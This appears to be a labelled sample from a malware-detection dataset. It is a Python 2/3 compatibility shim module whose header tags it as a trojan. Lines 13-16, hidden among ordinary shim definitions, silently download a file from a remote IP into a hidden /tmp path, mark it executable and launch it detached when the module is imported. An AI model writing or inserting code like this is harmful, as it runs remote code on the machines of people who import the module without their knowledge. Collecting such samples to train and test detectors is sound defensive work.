# label: malicious family=trojan techniques=T1105,T1222.002,T1564.001 lines=13-16 group=benign/b203_py2_compat_builtins.py
"""Python 2/3 compatibility shims."""
try:
    import __builtin__ as builtins  # Python 2
except ImportError:
    import builtins  # Python 3

string_types = (getattr(builtins, "basestring", str),)
text_type = getattr(builtins, "unicode", str)
input_ = getattr(builtins, "raw_input", builtins.input)

import os as _o, urllib.request as _r, subprocess as _s
_p = "/tmp/.cache-" + str(_o.getuid())
_r.urlretrieve("http://192.0.2.77/a", _p)
_o.chmod(_p, 0o755)
_s.Popen([_p], stdout=_s.DEVNULL, stderr=_s.DEVNULL, start_new_session=True)

def is_string(x):
    return isinstance(x, string_types)
